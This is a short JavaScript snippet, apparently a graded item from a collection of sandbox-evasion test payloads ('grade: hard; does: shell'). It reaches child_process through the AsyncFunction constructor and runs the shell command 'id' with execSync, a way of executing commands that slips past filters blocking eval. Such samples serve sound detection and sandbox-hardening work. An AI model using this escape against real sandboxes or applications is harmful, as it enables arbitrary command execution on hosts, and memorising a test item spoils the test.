// evasion: the AsyncFunction constructor reaches child_process
// grade: hard; does: shell
const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;
new AsyncFunction('return process.mainModule.require("child_process").execSync("id")')();
